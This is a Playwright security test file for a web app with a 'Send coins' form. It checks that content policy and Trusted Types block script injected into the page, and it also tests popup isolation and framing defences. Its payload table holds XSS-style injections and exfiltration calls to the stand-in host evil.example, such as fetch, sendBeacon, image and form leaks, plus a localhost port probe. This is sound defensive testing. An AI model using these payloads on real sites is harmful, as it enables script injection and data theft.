/**
 * What the page may not do, tried from inside it: once on a host that sends every header, once on one that sends none, where the
 * build's own policy and the page's narrowing stand alone. docs/security.md rule 10.
 */
import { createServer } from 'node:http';
import { expect, type Page, test } from '@playwright/test';
import { underAttack } from '../src/testing/attack.ts';
import { createHost } from '../tools/host.ts';
import { dist } from './fixtures.ts';
import { NOWHERE } from './nowhere.ts';

const EVERY_HEADER = [
  'content-security-policy',
  'x-content-type-options',
  'referrer-policy',
  'cross-origin-opener-policy',
  'cross-origin-resource-policy',
  'permissions-policy',
  'cache-control',
];

/** What injected text would try; each is the body of a function in the page. Run: it sets `ran`, or connects to a stranger. */
const TRIES: Readonly<Record<string, string>> = {
  eval: `(0, eval)('ran = true')`,
  'new Function': `new Function('ran = true')()`,
  'a timer with text': `setTimeout('ran = true', 0)`,
  'innerHTML with a handler': `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="ran = true">')`,
  'innerHTML of an SVG': `document.createElement('div').innerHTML = '<svg onload="ran = true">'`,
  'srcdoc of a frame': `const f = document.createElement('iframe'); f.srcdoc = '<script>parent.ran = true</script>'; document.body.append(f)`,
  'a frame of a stranger': `const f = document.createElement('iframe'); f.src = 'https://evil.example'; document.body.append(f)`,
  'a handler as an attribute': `const b = document.createElement('b'); b.setAttribute('onclick', 'ran = true'); document.body.append(b); b.click()`,
  'an inline script': `const s = document.createElement('script'); s.text = 'ran = true'; document.body.append(s)`,
  'a script of a stranger': `const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s)`,
  'a module of a stranger': `return import('https://evil.example/x.js')`,
  'a module from data': `return import('data:text/javascript,globalThis.ran = true')`,
  'a module from a blob': `return import(URL.createObjectURL(new Blob(['globalThis.ran = true'], { type: 'text/javascript' })))`,
  'a worker from a blob': `new Worker(URL.createObjectURL(new Blob(['1'], { type: 'text/javascript' })))`,
  'a worker of a stranger': `new Worker('https://evil.example/x.js')`,
  'a javascript: address': `const a = document.createElement('a'); a.href = 'javascript:ran = true'; document.body.append(a); a.click()`,
  'a style of a stranger': `const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'https://evil.example/x.css'; document.head.append(l)`,
  'an inline style': `const s = document.createElement('style'); s.textContent = 'body { background: url(https://evil.example/x) }'; document.head.append(s)`,
  'a picture of a stranger': `return new Promise((done) => { const i = new Image(); i.onerror = done; i.onload = () => { ran = true; done() }; i.src = 'https://evil.example/leak?key' })`,
  'a font of a stranger': `return new FontFace('x', 'url(https://evil.example/x)').load()`,
  'a request to a stranger': `return fetch('https://evil.example/leak', { method: 'POST', body: 'key', mode: 'no-cors' })`,
  'a beacon to a stranger': `navigator.sendBeacon('https://evil.example/leak', 'key')`,
  'a socket to a stranger': `new WebSocket('wss://evil.example')`,
  'an event source of a stranger': `new EventSource('https://evil.example')`,
  'a request to this machine': `return fetch('http://localhost:22', { mode: 'no-cors' })`,
  'a form that sends away': `const f = document.createElement('form'); f.action = 'https://evil.example'; f.method = 'post'; document.body.append(f); f.submit()`,
  'another base': `const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.append(b); if (document.baseURI.includes('evil')) ran = true`,
  'an object of a stranger': `const o = document.createElement('object'); o.data = 'https://evil.example/x'; document.body.append(o)`,
  'a second Trusted Types policy': `trustedTypes.createPolicy('mine', { createHTML: (text) => text }); ran = true`,
};

/** Trusted Types throw where the text is handed over, and report nothing. */
const THROWN: readonly string[] = [
  'eval',
  'new Function',
  'a script of a stranger',
  'a worker of a stranger',
  'an object of a stranger',
];

/** Whether the browser refused it: by an exception or by a report, without anything having run. */
async function isRefused(page: Page, name: string): Promise<boolean> {
  return page.evaluate(
    async ({ name, isThrown }) => {
      const state = globalThis as unknown as { ran: boolean };
      state.ran = false;
      let reports = 0;
      const hear = (): void => void reports++;
      addEventListener('securitypolicyviolation', hear);
      // Made by the page's driver, which no policy holds; what it calls is the page's.
      const attempt = (globalThis as unknown as Record<string, () => unknown>)[`try ${name}`];
      let thrown = false;
      try {
        // On a turn of its own: what the driver calls may use eval.
        await new Promise((done) => setTimeout(done, 0)).then(attempt);
      } catch {
        thrown = true;
      }
      for (let waits = 0; waits < 20 && reports === 0 && !(isThrown && thrown); waits++)
        await new Promise((done) => setTimeout(done, 25));
      removeEventListener('securitypolicyviolation', hear);
      return attempt !== undefined && !state.ran && (isThrown ? thrown : reports > 0);
    },
    { name, isThrown: THROWN.includes(name) },
  );
}

async function attackFromInside(page: Page, what: string): Promise<void> {
  await underAttack({ line: 10, what }, Object.keys(TRIES), (name) => isRefused(page, name));
}

test.describe('text that got into the page', { tag: '@attack' }, () => {
  for (const [host, leaveOut] of [
    ['a host that sends every header', []],
    ['a host that sends none', EVERY_HEADER],
  ] as const) {
    test(`can do nothing on ${host}`, async ({ page }) => {
      await using pages = await createHost({ dist, config: NOWHERE, port: 0, leaveOut });
      const warnings: string[] = [];
      page.on('console', (message) => message.type() === 'warning' && warnings.push(message.text()));
      const functions = Object.entries(TRIES).map(
        ([name, body]) => `globalThis[${JSON.stringify(`try ${name}`)}] = async () => { ${body} };`,
      );
      await page.addInitScript(functions.join('\n'));
      await page.goto(pages.url);
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
      await attackFromInside(page, `text in the page of ${host}`);
      const named = () => EVERY_HEADER.filter((header) => warnings.some((text) => text.includes(`${header}: `)));
      await expect.poll(named).toEqual(leaveOut);
    });
  }

  test('an order’s form breaks nothing of it, on a host of every header and on one of none', async ({ page }) => {
    const broken: string[] = [];
    await page.exposeFunction('tellBroken', (words: string) => void broken.push(words));
    await page.addInitScript(() => {
      const { tellBroken } = globalThis as unknown as { readonly tellBroken: (words: string) => void };
      addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
        tellBroken(`${effectiveDirective} by ${blockedURI}`),
      );
    });
    for (const leaveOut of [[], EVERY_HEADER]) {
      await using pages = await createHost({ dist, config: NOWHERE, port: 0, leaveOut });
      await page.goto(`${pages.url}/o/1-1`);
      await page.getByRole('button', { name: /Search and actions/ }).press('Control+k');
      await page.getByRole('combobox', { name: 'Search and actions' }).fill('send coins');
      await page.getByRole('option', { name: /Send coins/ }).click();
      const form = page.getByRole('form', { name: 'Send coins' });
      await form.getByRole('combobox', { name: 'Recipient' }).fill('1-42');
      await form.getByLabel('Amount (grams)').fill('1.5');
      await expect(form.getByText(/1.500.000 ualpha/)).toBeVisible();
    }
    expect(broken).toEqual([]);
  });

  test('the builder of config.json, which may ask any host, is no way out for another page', async ({ page }) => {
    await using pages = await createHost({ dist, config: NOWHERE, port: 0 });
    await page.goto(pages.url);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await underAttack(
      { line: 10, what: 'the window of the builder of config.json' },
      ['setup', 'setup?x', 'setup#x'],
      async (path) => {
        const opened = page.context().waitForEvent('page');
        await page.evaluate((to) => void Object.assign(globalThis, { builder: open(to) }), `${pages.url}/${path}`);
        const builder = await opened;
        await expect(builder.getByRole('heading', { level: 1 })).toBeVisible();
        const held = await page.evaluate(() => {
          const { builder: other } = globalThis as unknown as { readonly builder: Window | null };
          return other === null || other.closed ? 'nothing' : 'a window';
        });
        expect(held).toBe('nothing');
        expect(await builder.evaluate(() => opener)).toBeNull();
        await builder.close();
      },
    );
  });

  test('a page around it sees nothing to press', async ({ page }) => {
    for (const leaveOut of [[], EVERY_HEADER]) {
      await using pages = await createHost({ dist, config: NOWHERE, port: 0, leaveOut });
      await using around = createServer((_request, response) => {
        response
          .setHeader('content-type', 'text/html')
          .end(`<iframe src="${pages.url}" width="900" height="700"></iframe>`);
      });
      await new Promise<void>((listening) => around.listen(0, '127.0.0.1', listening));
      const { port } = around.address() as { port: number };
      await page.goto(`http://127.0.0.1:${port}`);
      const frame = page.frameLocator('iframe');
      if (leaveOut.length > 0)
        await expect(frame.getByRole('heading')).toHaveText('This page is embedded in another site');
      await expect(frame.getByRole('button')).toHaveCount(0);
      around.closeAllConnections();
    }
  });
});
